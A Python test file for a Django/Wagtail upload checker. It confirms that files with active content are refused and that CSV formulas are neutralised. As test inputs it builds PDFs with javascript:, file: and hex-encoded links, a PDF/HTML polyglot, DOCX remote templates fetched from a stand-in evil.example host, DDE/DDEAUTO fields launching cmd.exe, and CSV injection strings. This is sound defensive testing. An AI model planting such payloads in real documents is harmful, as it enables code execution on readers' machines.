"""Uploads a reader's desktop software would act on: PDF script links and PDF+HTML polyglots, Office
remote templates and other parts fetched on opening, DDE fields (Word, Excel, OpenDocument) are refused,
through the one check every upload route uses (admin single and multiple upload, bulk import);
CSV formulas are neutralised. Downloads keep their sandbox."""

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from pypdf import PdfWriter
from pypdf.annotations import Link
from wagtail.documents import get_document_model

from tests.uploads import samples
from uploads.refusals import UploadRefused
from uploads.services import check_upload

ALLOWED = ["pdf", "docx", "xlsx", "pptx", "odt", "txt", "csv"]
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def pdf_linking_to(url: str) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.add_annotation(page_number=0, annotation=Link(rect=(10, 10, 100, 100), url=url))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def raw_pdf_with_hex_uri() -> bytes:
    """A hand-written PDF whose link target is a hex string spelling javascript:."""
    target = b"javascript:app.alert(1)".hex().encode()
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Annots[4 0 R]>>endobj\n"
        b"4 0 obj<</Type/Annot/Subtype/Link/Rect[0 0 50 50]/A<</S/URI/URI <" + target + b">>>>>endobj\n"
        b"trailer<</Root 1 0 R>>\n%%EOF\n"
    )


def docx_with(parts: dict[str, str]) -> bytes:
    """The sample DOCX with parts added or replaced."""
    source = zipfile.ZipFile(io.BytesIO(samples.docx_file()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for item in source.infolist():
            if item.filename not in parts:
                archive.writestr(item, source.read(item))
        for name, text in parts.items():
            archive.writestr(name, text)
    return out.getvalue()


def relationship(kind: str, target: str) -> str:
    return (
        f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId9" Type="{RELS}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )


def document_xml(field_code: str) -> str:
    return (
        f'<?xml version="1.0"?><w:document {W}><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> {field_code} </w:instrText></w:r>'
        f'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>'
    )


REFUSED = {
    "pdf javascript: link": (
        "guide.pdf",
        lambda: pdf_linking_to("javascript:app.alert('synthetic')"),
        "pdf-javascript",
    ),
    "pdf JavaScript: link, mixed case": ("guide.pdf", lambda: pdf_linking_to("JavaScript:void(0)"), "pdf-javascript"),
    "pdf file: link": ("guide.pdf", lambda: pdf_linking_to("file:///C:/Windows/System32/calc.exe"), "pdf-javascript"),
    "pdf hex-string javascript: link": ("guide.pdf", raw_pdf_with_hex_uri, "pdf-javascript"),
    "pdf+html polyglot": (
        "guide.pdf",
        lambda: samples.pdf() + b"\n<html><body><script>alert('synthetic')</script></body></html>\n",
        "polyglot",
    ),
    "docx remote template": (
        "template.docx",
        lambda: docx_with(
            {"word/_rels/settings.xml.rels": relationship("attachedTemplate", "https://evil.example/t.dotm")}
        ),
        "remote-template",
    ),
    "docx remote frame": (
        "template.docx",
        lambda: docx_with({"word/_rels/webSettings.xml.rels": relationship("frame", "https://evil.example/f")}),
        "remote-template",
    ),
    "docx DDEAUTO field": (
        "template.docx",
        lambda: docx_with(
            {"word/document.xml": document_xml('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')}
        ),
        "dde",
    ),
    "docx DDE field": ("template.docx", lambda: docx_with({"word/document.xml": document_xml('DDE "cmd" "x"')}), "dde"),
    "xlsx DDE link": (
        "sheet.xlsx",
        lambda: samples.office_zip(
            "xlsx", {"xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'}
        ),
        "dde",
    ),
    "odt DDE connection": (
        "notes.odt",
        lambda: samples.odt_file(
            extra={"styles.xml": b"<office:document-styles><text:dde-connection-decls/></office:document-styles>"}
        ),
        "dde",
    ),
}


@pytest.mark.parametrize("case", list(REFUSED))
def test_active_content_is_refused_by_the_shared_check(case):
    name, build, code = REFUSED[case]
    data = build()
    with pytest.raises(UploadRefused) as refused:
        check_upload(io.BytesIO(data), name, len(data), ALLOWED, source="test")
    assert refused.value.code == code


@pytest.mark.parametrize(
    ("name", "build"),
    [
        ("guide.pdf", lambda: pdf_linking_to("https://www.example.org/guidance")),
        ("guide.pdf", lambda: pdf_linking_to("mailto:team@example.org")),
        (
            "template.docx",
            lambda: docx_with({"word/_rels/document.xml.rels": relationship("hyperlink", "https://x.example/")}),
        ),
        ("template.docx", lambda: docx_with({"word/document.xml": document_xml('HYPERLINK "https://x.example/"')})),
        ("template.docx", samples.docx_file),
    ],
)
def test_ordinary_links_and_fields_are_accepted(name, build):
    data = build()
    check_upload(io.BytesIO(data), name, len(data), ALLOWED, source="test")


@pytest.mark.django_db
@pytest.mark.parametrize("case", ["docx remote template", "pdf+html polyglot", "docx DDEAUTO field"])
def test_the_admin_upload_refuses_them_and_stores_nothing(admin_client, case):
    name, build, _code = REFUSED[case]
    response = admin_client.post(
        reverse("wagtaildocs:add"),
        {"title": "Synthetic", "collection": 1, "file": SimpleUploadedFile(name, build())},
    )
    assert "This file was refused" in response.content.decode()
    assert get_document_model().objects.count() == 0


CSV = (
    b"stage,note,count,phone\n"
    b'strategy,=HYPERLINK("https://evil.example"),-5,+44 20 7946 0000\n'
    b"conference,@SUM(A1:A2),3.5,-\n"
    b"plan,+cmd|' /C calc'!A0,+12,\"-2+3\"\n"
)


@pytest.mark.django_db
def test_csv_formulas_are_stored_as_text_and_numbers_left_alone(admin_client):
    response = admin_client.post(
        reverse("wagtaildocs:add"),
        {"title": "Synthetic", "collection": 1, "file": SimpleUploadedFile("counts.csv", CSV)},
    )
    assert response.status_code == 302
    document = get_document_model().objects.get()
    with document.file.open("rb") as handle:
        stored = handle.read().decode()
    lines = stored.splitlines()
    assert lines[1] == 'strategy,"\'=HYPERLINK(""https://evil.example"")",-5,\'+44 20 7946 0000'
    assert lines[2] == "conference,'@SUM(A1:A2),3.5,-"  # a lone dash is no formula
    assert lines[3] == "plan,'+cmd|' /C calc'!A0,+12,'-2+3"


@pytest.mark.django_db
def test_downloads_keep_the_sandbox(client, camden):
    from django.core.files.base import ContentFile

    from tests.factories import ResourcePageFactory

    document = get_document_model().objects.create(title="Synthetic sheet")
    document.file.save("counts.csv", ContentFile(b"stage,count\nstrategy,3\n"))
    page = ResourcePageFactory(parent=camden)
    page.attachments.create(document=document)
    page.save_revision().publish()
    response = client.get(document.url)
    assert response.status_code == 200
    assert "sandbox" in response["Content-Security-Policy"]
    assert response["Content-Disposition"].startswith("attachment")
